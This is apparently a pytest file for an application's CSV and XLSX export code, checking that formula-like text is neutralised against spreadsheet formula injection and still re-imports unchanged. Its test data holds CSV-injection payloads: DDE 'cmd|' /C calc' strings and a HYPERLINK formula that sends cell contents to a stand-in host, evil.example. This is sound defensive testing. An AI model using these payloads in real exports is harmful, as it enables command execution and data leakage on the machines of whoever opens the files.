"""Exports are safe to open: no cell CTIS writes is taken for a formula by a spreadsheet.

OWASP's CSV-injection guidance: text beginning with ``= + - @``, tab or CR is neutralised with a
leading single quote in CSV, and written as text (never a formula) in XLSX.  Numbers stay numbers.
The importer removes the quote it added, so an export still re-imports unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from ctis.domain.records import columns
from ctis.io.files import guard_cell, read_table, unguard, write_csv, write_xlsx
from ctis.io.importer import import_file
from ctis.publication import releases
from ctis.storage.repository import Repository
from tests.conftest import TODAY
from tests.factories import Fixture

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Values that must come back exactly as they were, whatever the guard does to them on the way.
TRICKY = [*ATTACKS, "'=already quoted", "''-twice", "'plain quote", "-5", "-0.25", "a=b", "x@y", "", "plain"]


@pytest.mark.parametrize("value", ATTACKS)
def test_text_that_begins_like_a_formula_gets_a_quote(value: str) -> None:
    assert guard_cell(value) == "'" + value
    assert unguard(guard_cell(value)) == value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 17, "-5", "-0.25", "17", "a=b", "x@y", "'text"])
def test_numbers_and_harmless_text_are_written_as_they_are(value: object) -> None:
    assert guard_cell(value) == str(value)


@pytest.mark.parametrize("value", TRICKY)
def test_guard_and_unguard_are_inverse(value: str) -> None:
    assert unguard(guard_cell(value)) == value


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_write_csv_never_starts_a_cell_with_a_formula_character() -> None:
    out = io.StringIO()
    rows = [{"=header": a, "value": -4} for a in ATTACKS] + [[a, a] for a in ATTACKS]
    write_csv(out, ["=header", "value"], rows)
    cells = _csv_cells(out.getvalue().replace("\r", "\\r"))
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t") or (c[:1] == "-" and c != "-4")]
    assert "-4" in cells  # a negative number is a number, not text


def test_a_carriage_return_inside_a_value_cannot_start_a_row_of_its_own(tmp_path: Path) -> None:
    """A lone CR is a line break to every CSV reader: unquoted, "x\r=1+1" put a formula in a new row."""
    out = io.StringIO()
    write_csv(out, ["name", "n"], [["x\r=1+1", -4], ["plain", 2]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["name", "n"], ["x\r=1+1", "-4"], ["plain", "2"]]
    (tmp_path / "cr.csv").write_text(out.getvalue(), encoding="utf-8", newline="")
    _, read = read_table(tmp_path / "cr.csv")
    assert [r["name"] for r in read] == ["x\r=1+1", "plain"]


def test_write_xlsx_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, {"s": (["=h", "n"], [[a, -4] for a in ATTACKS])})
    ws = load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.column == 1][1:] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.quotePrefix for c in cells if c.column == 1)  # Excel keeps them text when edited
    assert [c.value for c in cells if c.column == 2][1:] == [-4] * len(ATTACKS)


def test_a_table_file_of_tricky_text_reads_back_as_written(tmp_path: Path) -> None:
    values = [v for v in TRICKY if "\r" not in v and "\t" not in v]  # strip()ped by the domain anyway
    buf = io.StringIO()
    write_csv(buf, ["v"], [[v] for v in values])
    (tmp_path / "t.csv").write_text(buf.getvalue(), encoding="utf-8")
    write_xlsx(tmp_path / "t.xlsx", {"t": (["v"], [[v] for v in values])})
    for name in ("t.csv", "t.xlsx"):
        _, rows = read_table(tmp_path / name)
        assert [r.get("v", "") for r in rows] == values, name


def _snapshot(engine: Engine) -> dict[str, str]:
    out = {}
    with Session(engine) as s:
        for kind in ("agencies", "operations", "victims"):
            buf = io.StringIO()
            write_csv(buf, columns(kind), Repository(s).export_rows(kind))
            out[kind] = buf.getvalue()
    return out


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_an_export_of_hostile_names_is_neutralised_and_re_imports_unchanged(
    engine: Engine, tmp_path: Path, suffix: str
) -> None:
    f = Fixture()
    ag = f.agency(external_id="AG-1", name_en='=HYPERLINK("http://evil.example","NGO")')
    op = f.operation("2024-01-01", lead_agency=ag.external_id)
    f.victim("2024-01-01", op, name_latin="=1+2", name_khmer="@SUM(1)", phone="+85512345678", agency="AG-1")
    f.victim("2024-01-02", op, name_latin="'=quoted", name_khmer="-x", agency="AG-1")
    f.save(engine)
    before = _snapshot(engine)
    assert "'=1+2" in before["victims"] and "''=quoted" in before["victims"]
    with Session(engine) as s:
        for kind in ("agencies", "operations", "victims"):
            header, rows = columns(kind), list(Repository(s).export_rows(kind))
            path = tmp_path / f"{kind}.{suffix}"
            if suffix == "csv":
                with path.open("w", encoding="utf-8", newline="") as fh:
                    write_csv(fh, header, rows)
            else:
                write_xlsx(path, {kind: (header, rows)})
    for kind in ("agencies", "operations", "victims"):
        result = import_file(engine, tmp_path / f"{kind}.{suffix}", kind, today=TODAY)
        assert result.created == result.updated == 0 and result.unchanged >= 1, kind
    assert _snapshot(engine) == before


def test_release_csv_goes_through_the_guard(monkeypatch: pytest.MonkeyPatch) -> None:
    figure = releases.PublicFigure(
        "t", "=cmd|' /C calc'!A0", "2024", "2024-01-01", "2024-12-31", ("@d",), ("+k",), -1, "published"
    )
    monkeypatch.setattr(releases, "public_figures", lambda session, release: [figure])

    class Fake:
        version = 1
        method = "suppression"

    cells = _csv_cells(releases.release_csv(None, Fake()))  # type: ignore[arg-type]
    assert "'=cmd|' /C calc'!A0" in cells and "'@d" in cells and "'+k" in cells
    assert "-1" in cells


def test_every_table_writer_is_the_io_layer() -> None:
    """CSV and XLSX are written only by ctis.io.files, so every export gets the guard."""
    src = Path(__file__).resolve().parent.parent / "src" / "ctis"
    writer = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|openpyxl")
    offenders = [
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if p.name != "files.py" and writer.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
